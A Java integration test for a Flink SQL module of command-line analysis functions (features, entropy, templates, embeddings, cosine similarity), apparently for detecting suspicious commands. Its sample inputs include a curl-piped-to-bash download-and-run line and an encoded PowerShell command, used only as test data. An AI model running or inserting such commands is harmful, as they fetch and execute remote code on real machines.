package dev.longtail.udfs.flink.sql;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.within;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import dev.longtail.udfs.embedding.EmbeddingModel;
import dev.longtail.udfs.features.ExpertFeatures;
import dev.longtail.udfs.flink.SharedEmbedder;
import dev.longtail.udfs.flink.sql.SqlTables.Mode;
import dev.longtail.udfs.io.JsonLines;
import dev.longtail.udfs.shape.CommandShape;
import dev.longtail.udfs.template.CommandTemplate;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.TreeSet;
import org.apache.flink.table.api.TableEnvironment;
import org.apache.flink.table.api.ValidationException;
import org.apache.flink.types.Row;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

@ExtendWith(SqlCluster.class)
class LongtailModuleIT {
  private static final List<String> LINES =
      List.of(
          "",
          "whoami",
          "cmd.exe /c \"echo it's && set X=1\" > C:\\Temp\\out.txt",
          "powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
          "curl -s https://10.1.2.3/a.sh | bash -s -- \u00e9\u4e16\ud83d\ude00 \u0001",
          "ls  -la /home/jdoe/projects/4711");

  @TempDir Path folder;

  @ParameterizedTest
  @EnumSource
  void theFunctionsGiveTheValuesOfTheCore(Mode mode) {
    assertValuesOfTheCore(mode, LINES);
  }

  @ParameterizedTest
  @EnumSource
  void theFunctionsGiveTheValuesOfTheCoreOnRealLines(Mode mode) {
    Path day = Path.of("../../shared/data/real/tel_mordor.jsonl.gz");
    Assumptions.assumeTrue(Files.exists(day), "no real command lines beside the checkout");
    List<String> lines = new ArrayList<>();
    JsonLines.forEach(day, (record, where) -> lines.add(JsonLines.commandLine(record, where)));
    assertThat(lines).hasSizeGreaterThan(300);
    assertValuesOfTheCore(mode, lines.subList(0, 300));
  }

  private void assertValuesOfTheCore(Mode mode, List<String> lines) {
    TableEnvironment tables = mode.withModule();
    commands(tables, lines);
    List<Row> rows =
        SqlTables.rows(
            tables,
            "SELECT line, COMMAND_FEATURES(line), SHANNON_ENTROPY(line), COMMAND_TEMPLATE(line),"
                + " COMMAND_SHAPE(line) FROM commands");
    assertThat(rows).extracting(row -> row.getField(0)).containsExactlyInAnyOrderElementsOf(lines);
    ExpertFeatures features = new ExpertFeatures();
    for (Row row : rows) {
      String line = row.getFieldAs(0);
      assertThat(row.getField(1)).as(line).isEqualTo(features.named(line));
      assertThat(row.getField(2)).as(line).isEqualTo(features.named(line).get("entropy_bits"));
      assertThat(row.getField(3)).as(line).isEqualTo(CommandTemplate.of(line));
      assertThat(row.getField(4)).as(line).isEqualTo(CommandShape.of(line).text());
    }
  }

  @ParameterizedTest
  @EnumSource
  void theEmbeddingIsTheEmbeddersToTheLastBit(Mode mode) {
    TableEnvironment tables = mode.withModule();
    commands(tables, LINES);
    List<Row> rows =
        SqlTables.rows(
            tables,
            "SELECT line, COMMAND_EMBEDDING(line), COMMAND_EMBEDDING('whoami'),"
                + " COSINE_SIMILARITY(COMMAND_EMBEDDING(line), COMMAND_EMBEDDING('whoami'))"
                + " FROM commands");
    assertThat(rows).hasSize(LINES.size());
    try (SharedEmbedder.Lease lease = SharedEmbedder.lease(EmbeddingModel.MINILM)) {
      float[] whoami = lease.get().embed("whoami");
      for (Row row : rows) {
        float[] vector = lease.get().embed(row.getFieldAs(0));
        assertThat(floats(row.getField(1))).as("%s", row.getField(0)).isEqualTo(vector);
        assertThat(floats(row.getField(2))).isEqualTo(whoami);
        double product = 0;
        for (int i = 0; i < vector.length; i++) {
          product += (double) vector[i] * whoami[i];
        }
        assertThat(row.<Double>getFieldAs(3)).isCloseTo(product, within(1e-6)).isBetween(-1.0, 1.0);
      }
    }
  }

  @ParameterizedTest
  @EnumSource
  void nullGivesNull(Mode mode) {
    TableEnvironment tables = mode.withModule();
    String functions =
        "COMMAND_FEATURES(%1$s), SHANNON_ENTROPY(%1$s), COMMAND_TEMPLATE(%1$s),"
            + " COMMAND_SHAPE(%1$s), COMMAND_EMBEDDING(%1$s),"
            + " COSINE_SIMILARITY(COMMAND_EMBEDDING(%1$s), COMMAND_EMBEDDING('ls')),"
            + " COSINE_SIMILARITY(COMMAND_EMBEDDING('ls'), COMMAND_EMBEDDING(%1$s))";
    Row nothing = Row.of(null, null, null, null, null, null, null);
    // A column is what data have; a literal is what the planner tries to compute by itself.
    assertThat(
            SqlTables.row(
                tables,
                "SELECT "
                    + functions.formatted("line")
                    + " FROM (VALUES (CAST(NULL AS STRING))) AS t (line)"))
        .isEqualTo(nothing);
    assertThat(SqlTables.row(tables, "SELECT " + functions.formatted("CAST(NULL AS STRING)")))
        .isEqualTo(nothing);
  }

  @ParameterizedTest
  @EnumSource
  void whatIsNotInAResultIsNull(Mode mode) {
    TableEnvironment tables = mode.withModule();
    assertThat(
            SqlTables.rows(
                tables,
                "SELECT line, COMMAND_FEATURES(line)['length'],"
                    + " COMMAND_FEATURES(line)['char_0x25'], COMMAND_FEATURES(line)['none'],"
                    + " CARDINALITY(COMMAND_EMBEDDING(line)), COMMAND_EMBEDDING(line)[1] IS NULL,"
                    + " COMMAND_EMBEDDING(line)[385] FROM (VALUES ('%%'), ('ls'), (CAST(NULL AS"
                    + " STRING))) AS t (line)"))
        .containsExactlyInAnyOrder(
            Row.of("%%", 2.0, 2.0, null, 384, false, null),
            Row.of("ls", 2.0, null, null, 384, false, null),
            Row.of(null, null, null, null, null, true, null));
  }

  @ParameterizedTest
  @EnumSource
  void theResultCanBeNullOnlyIfTheLineCan(Mode mode) {
    TableEnvironment tables = mode.withModule();
    String query =
        "SELECT COMMAND_FEATURES(line), SHANNON_ENTROPY(line), COMMAND_TEMPLATE(line),"
            + " COMMAND_SHAPE(line), COMMAND_EMBEDDING(line),"
            + " COSINE_SIMILARITY(COMMAND_EMBEDDING(line), COMMAND_EMBEDDING(line))"
            + " FROM (SELECT CAST('x' AS %s) AS line)";
    assertThat(types(tables, query.formatted("VARCHAR(7)")))
        .containsExactly(
            "MAP<STRING, DOUBLE> NOT NULL",
            "DOUBLE NOT NULL",
            "STRING NOT NULL",
            "STRING NOT NULL",
            "ARRAY<FLOAT> NOT NULL",
            "DOUBLE");
    String nullable = query.replace("CAST('x' AS %s)", "CAST(NULL AS STRING)");
    assertThat(types(tables, nullable))
        .containsExactly(
            "MAP<STRING, DOUBLE>", "DOUBLE", "STRING", "STRING", "ARRAY<FLOAT>", "DOUBLE");
  }

  private static List<String> types(TableEnvironment tables, String query) {
    return tables.sqlQuery(query).getResolvedSchema().getColumnDataTypes().stream()
        .map(type -> type.getLogicalType().asSummaryString())
        .toList();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "SELECT SHANNON_ENTROPY(42)",
        "SELECT COMMAND_TEMPLATE()",
        "SELECT COMMAND_SHAPE('a', 'b')",
        "SELECT COSINE_SIMILARITY('a', 'b')"
      })
  void otherArgumentsAreRefusedWithTheSignature(String query) {
    TableEnvironment tables = Mode.STREAMING.withModule();
    String function = query.substring("SELECT ".length(), query.indexOf('('));
    assertThatThrownBy(() -> tables.sqlQuery(query))
        .isInstanceOf(ValidationException.class)
        .hasStackTraceContaining(function + "(");
  }

  @Test
  void thePlannerTakesTheFunctionsForDeterministic() {
    LongtailModule module = new LongtailModule(EmbeddingModel.MINILM);
    for (String name : module.listFunctions()) {
      assertThat(module.getFunctionDefinition(name).orElseThrow().isDeterministic())
          .as(name)
          .isTrue();
    }
    // Computed in the planner, which leaves only the value: it would not if it were not.
    TableEnvironment tables = Mode.BATCH.withModule();
    assertThat(tables.explainSql("SELECT SHANNON_ENTROPY('abcd')"))
        .contains("2E0")
        .satisfies(
            plan ->
                assertThat(plan.substring(plan.indexOf("== Optimized")))
                    .doesNotContain("SHANNON_ENTROPY"));
    // But no model is loaded for that.
    String plan = tables.explainSql("SELECT COMMAND_EMBEDDING('abcd')");
    assertThat(plan.substring(plan.indexOf("== Optimized"))).contains("COMMAND_EMBEDDING('abcd'");
  }

  @ParameterizedTest
  @EnumSource
  void theModuleIsLoadedListedAndUnloaded(Mode mode) {
    TableEnvironment tables = mode.withModule();
    assertThat(tables.listModules()).containsExactly("core", "longtail");
    assertThat(new TreeSet<>(List.of(tables.listFunctions())))
        .contains(
            "COMMAND_FEATURES",
            "COMMAND_TEMPLATE",
            "COMMAND_SHAPE",
            "SHANNON_ENTROPY",
            "COMMAND_EMBEDDING",
            "COSINE_SIMILARITY");
    assertThat(SqlTables.row(tables, "SELECT shannon_entropy('ab')")).isEqualTo(Row.of(1.0));
    tables.executeSql("UNLOAD MODULE longtail");
    assertThatThrownBy(() -> tables.sqlQuery("SELECT SHANNON_ENTROPY('ab')"))
        .isInstanceOf(ValidationException.class)
        .hasStackTraceContaining("No match found for function signature SHANNON_ENTROPY");
  }

  @Test
  void theModelsFolderIsAnOption() throws Exception {
    SqlTables.modelIn(folder);
    TableEnvironment tables = Mode.STREAMING.environment();
    tables.executeSql("LOAD MODULE longtail WITH ('embedding-model' = '" + folder + "')");
    Row row = SqlTables.row(tables, "SELECT COMMAND_EMBEDDING('whoami /all')");
    try (SharedEmbedder.Lease lease = SharedEmbedder.lease(EmbeddingModel.MINILM)) {
      assertThat(floats(row.getField(0))).isEqualTo(lease.get().embed("whoami /all"));
    }
    // The model is read where the option says and not, say, from the class path all the same.
    Files.writeString(folder.resolve("model.onnx"), "no graph");
    assertThatThrownBy(() -> SqlTables.row(tables, "SELECT COMMAND_EMBEDDING('whoami /all')"))
        .hasStackTraceContaining("cannot be loaded");
  }

  @Test
  void wrongOptionsAreNamed() {
    Path empty = folder;
    TableEnvironment tables = Mode.STREAMING.environment();
    assertThatThrownBy(() -> tables.executeSql("LOAD MODULE longtail WITH ('model' = 'x')"))
        .isInstanceOf(ValidationException.class)
        .hasStackTraceContaining("Unsupported options found for 'longtail'")
        .hasStackTraceContaining("embedding-model");
    assertThatThrownBy(
            () ->
                tables.executeSql(
                    "LOAD MODULE longtail WITH ('embedding-model' = '" + empty + "')"))
        .isInstanceOf(ValidationException.class)
        .hasStackTraceContaining("Option 'embedding-model' = '" + empty + "'")
        .hasStackTraceContaining("model.onnx: cannot be read");
    assertThat(tables.listModules()).containsExactly("core");
  }

  @ParameterizedTest
  @EnumSource
  void theCosineIsThatOfTheAngle(Mode mode) {
    TableEnvironment tables = mode.withModule();
    assertThat(
            SqlTables.row(
                tables,
                "SELECT "
                    + String.join(
                        ", ",
                        cosine("3, 4", "6, 8"),
                        cosine("3, 4", "-3, -4"),
                        cosine("1, 0", "0, 2"),
                        cosine("3, 4", "1, 0"),
                        cosine("0, 0", "1, 0"),
                        cosine("1, CAST(NULL AS INT)", "1, 0"))))
        .isEqualTo(Row.of(1.0, -1.0, 0.0, 0.6, null, null));
    assertThatThrownBy(() -> SqlTables.row(tables, "SELECT " + cosine("1, 0", "1, 0, 0")))
        .hasStackTraceContaining("vectors of 2 and 3 elements");
  }

  private static String cosine(String a, String b) {
    return "COSINE_SIMILARITY(CAST(ARRAY[%s] AS ARRAY<FLOAT>), CAST(ARRAY[%s] AS ARRAY<FLOAT>))"
        .formatted(a, b);
  }

  /** The lines as a table, by way of a file: as literals each would be an operator of its own. */
  private void commands(TableEnvironment tables, List<String> lines) {
    StringBuilder json = new StringBuilder();
    for (String line : lines) {
      json.append(JsonNodeFactory.instance.objectNode().put("line", line)).append('\n');
    }
    assertThatCode(() -> Files.writeString(folder.resolve("lines.json"), json))
        .doesNotThrowAnyException();
    tables.executeSql(
        "CREATE TEMPORARY TABLE commands (line STRING) WITH ('connector' = 'filesystem', 'format' ="
            + " 'json', 'path' = '"
            + folder
            + "')");
  }

  static float[] floats(Object array) {
    Float[] boxed = (Float[]) array;
    float[] floats = new float[boxed.length];
    for (int i = 0; i < floats.length; i++) {
      floats[i] = boxed[i];
    }
    return floats;
  }
}
